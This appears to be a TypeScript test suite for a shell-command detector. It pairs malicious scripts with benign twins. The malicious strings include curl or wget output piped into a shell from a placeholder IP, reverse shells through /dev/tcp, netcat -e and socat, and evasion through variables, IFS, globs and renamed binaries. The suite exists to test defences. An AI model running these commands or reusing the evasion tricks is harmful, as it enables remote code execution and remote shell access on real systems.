/**
 * The static model of the shell run: variables (script and container env), functions, command substitution
 * with literal results, globs in command position, IFS, eval of stored downloads, renamed tools, the
 * working directory, and the routes by which a downloaded file or a download's output is executed.
 * Each class has its malicious form and an honest twin that must stay quiet.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseCommands } from '../src/commands/index.js';
import { commandFindings } from './indicator-helpers.ts';

function findings(script: string, env?: Array<[string, string]>) {
  return commandFindings('shell-escape', ['/bin/sh', '-c', script], undefined, env ? { env } : {});
}

function assertEscape(script: string, message: RegExp, env?: Array<[string, string]>): void {
  const found = findings(script, env).map((finding) => `${finding.severity} ${finding.message}`);
  assert.ok(found.some((text) => text.startsWith('error') && message.test(text)), `${JSON.stringify(script)} gave ${JSON.stringify(found)}`);
}

function assertQuiet(script: string, indicator = 'shell-escape'): void {
  const found = commandFindings(indicator, ['/bin/sh', '-c', script]).map((finding) => finding.message);
  assert.deepEqual(found, [], `${JSON.stringify(script)} gave ${JSON.stringify(found)}`);
}

const DOWNLOAD_EXEC = /runs code fetched over the network/;
const DOWNLOAD_RUN = /runs a file it downloaded/;

describe('shell model: the program comes from a variable', () => {
  const cases: Array<[string, string]> = [
    ['a variable', 'c=curl; $c -s http://198.51.100.7/x | sh'],
    ['split across variables', 'a=cu; b=rl; $a$b -s http://198.51.100.7/x | sh'],
    ['braced and exported', 'export D=wget; ${D} -qO- http://198.51.100.7/x | bash'],
    ['a whole command line in one variable', 'cmd="curl -s http://198.51.100.7/x"; $cmd | sh'],
    ['a custom IFS', 'IFS=,; c=curl,-s,http://198.51.100.7/x; $c | sh'],
    ['a literal command substitution', '$(command -v curl) -s http://198.51.100.7/x | sh'],
    ['which in backticks', '`which wget` -qO- http://198.51.100.7/x | sh'],
  ];
  for (const [label, script] of cases) test(label, () => assertEscape(script, DOWNLOAD_EXEC));

  test('a /dev/tcp path kept in a literal env value and used as $T', () => {
    assertEscape('bash -i >& $T 0>&1', /\/dev\/tcp/, [['T', '/dev/tcp/198.51.100.7/4444']]);
  });

  test('twin: a backup script with functions and variables stays quiet', () => {
    assertQuiet(
      [
        'set -eu',
        'BACKUP_DIR=/backup',
        'stamp() { date +%F; }',
        'backup() {',
        '  tar czf "$BACKUP_DIR/site-$(stamp).tgz" -C /data .',
        '}',
        'backup',
        'find "$BACKUP_DIR" -name "*.tgz" -mtime +7 -delete',
      ].join('\n'),
    );
  });

  test('twin: a variable that names a harmless program is just that program', () => {
    const [invocation] = analyseCommands({ command: ['sh', '-c', 'GZ=gzip; $GZ -9 /backup/db.sql'] }, '/c').filter((entry) => entry.argv[0] !== 'sh');
    assert.deepEqual(invocation.argv, ['gzip', '-9', '/backup/db.sql']);
  });
});

describe('shell model: functions, eval and stored downloads', () => {
  test('a function wrapping a download, piped into sh', () => assertEscape('get() { curl -s http://198.51.100.7/x; }\nget | sh', DOWNLOAD_EXEC));
  test('function keyword form', () => assertEscape('function fetch { wget -qO- http://198.51.100.7/x; }\nfetch | bash', DOWNLOAD_EXEC));
  test('eval of a stored download', () => assertEscape('X=$(curl -s http://198.51.100.7/x); eval "$X"', DOWNLOAD_EXEC));
  test('a stored download echoed into sh', () => assertEscape('P="$(wget -qO- http://198.51.100.7/x)"; echo "$P" | sh', DOWNLOAD_EXEC));
  test('twin: eval "$(ssh-agent -s)" stays quiet', () => {
    assertQuiet('eval "$(ssh-agent -s)"; ssh-add /keys/deploy; git clone git@example.com:app.git');
    assertQuiet('eval "$(ssh-agent -s)"', 'obfuscated-execution');
  });
  test('twin: a function that is never piped into a shell', () => assertQuiet('notify() { echo "done: $1"; }\nnotify backup'));
});

describe('shell model: interpreter forms that run what they read', () => {
  const cases: Array<[string, string]> = [
    ['sh /dev/stdin', 'curl -s http://198.51.100.7/x | sh /dev/stdin'],
    ['bash -s', 'wget -qO- http://198.51.100.7/x | bash -s -- --yes'],
    ['bash /proc/self/fd/0', 'curl -s http://198.51.100.7/x | bash /proc/self/fd/0'],
    ['output process substitution > >(sh)', 'curl -s http://198.51.100.7/x > >(sh)'],
    ['tee into a process substitution', 'curl -s http://198.51.100.7/x | tee >(bash) > /dev/null'],
    ['source <(curl …)', 'source <(curl -s http://198.51.100.7/x)'],
    ['source /dev/stdin', 'curl -s http://198.51.100.7/x | source /dev/stdin'],
    ['at reads its commands', 'curl -s http://198.51.100.7/x | at now'],
  ];
  for (const [label, script] of cases) test(label, () => assertEscape(script, DOWNLOAD_EXEC));
  test('twin: a Postgres dump piped into gzip', () => assertQuiet('pg_dump -h "$PGHOST" app | gzip > /backup/app.sql.gz'));
  test('twin: a download piped into a parser, not a shell', () => assertQuiet('curl -s https://api.example.com/v1/status | jq .ok'));
});

describe('shell model: a downloaded file run by any route', () => {
  const cases: Array<[string, string]> = [
    ['relative name after cd', 'cd /tmp && wget http://198.51.100.7/kit; cd / ; cd tmp && ./kit'],
    ['moved, then run by its new name', 'curl -so /tmp/a http://198.51.100.7/a; mv /tmp/a /usr/local/bin/helper; /usr/local/bin/helper'],
    ['copied into a folder, then run', 'curl -so /tmp/a http://198.51.100.7/a; cp /tmp/a /opt/; /opt/a'],
    ['handed to the dynamic loader', 'curl -so /tmp/x http://198.51.100.7/x; /lib64/ld-linux-x86-64.so.2 /tmp/x'],
    ['sourced', 'curl -so /tmp/env.sh http://198.51.100.7/e; . /tmp/env.sh'],
    ['fed to a shell on stdin', 'curl -so /tmp/s http://198.51.100.7/s; sh < /tmp/s'],
    ['run through a wrapper', 'wget -O /tmp/m http://198.51.100.7/m && nohup /tmp/m &'],
  ];
  for (const [label, script] of cases) test(label, () => assertEscape(script, DOWNLOAD_RUN));
  test('twin: a download verified with sha256sum -c before it runs', () => {
    assertQuiet('curl -fsSLo tool https://releases.example.com/tool && sha256sum -c tool.sha256 && ./tool --version');
  });
  test('twin: a download that is only read', () => assertQuiet('curl -so /tmp/data.json https://api.example.com/x && jq . /tmp/data.json'));
});

describe('shell model: renamed tools keep their identity', () => {
  test('cp socat /tmp/s; /tmp/s', () => assertEscape('cp /usr/bin/socat /tmp/s; /tmp/s tcp:198.51.100.7:1 exec:sh', /socat/));
  test('ln -s nc /tmp/k', () => assertEscape('ln -s $(which nc) /tmp/k; /tmp/k -e /bin/sh 198.51.100.7 1', /netcat with -e/));
  test('mv of a bash copy, run interactive', () => assertEscape('cp /bin/bash /dev/shm/.x; /dev/shm/.x -i >& /dev/tcp/198.51.100.7/1 0>&1', /interactive shell/));
  test('twin: copying a config file and running the app', () => assertQuiet('cp /config/app.yaml /tmp/app.yaml; /app/server --config /tmp/app.yaml'));
});

describe('shell model: globs in command position', () => {
  test('/???/???/cur? resolves to curl', () => assertEscape('/???/???/cur? -s http://198.51.100.7/x | sh', DOWNLOAD_EXEC));
  test('/b??/n? resolves to nc', () => assertEscape('/b??/n? -e /bin/sh 198.51.100.7 1', /netcat with -e/));
  test('twin: globs in arguments are not commands', () => assertQuiet('rm -f /tmp/*.lock; ls /data/*.csv'));
});

describe('shell model: hostile input stays bounded', () => {
  test('a variable that refers to itself, and a function that calls itself', () => {
    const list = analyseCommands({ command: ['sh', '-c', 'a=$a$a; a=$a$a; $a; f() { f | sh; }; f'] }, '/c');
    assert.ok(list.length > 0);
  });
  test('prototype-named variables and functions are ordinary names', () => {
    const list = analyseCommands({ command: ['sh', '-c', 'constructor=curl; __proto__() { wget -qO- http://x; }; $constructor -s http://x | sh; __proto__ | sh; $hasOwnProperty'] }, '/c');
    assert.ok(list.some((invocation) => invocation.argv[0] === 'curl'));
  });
});
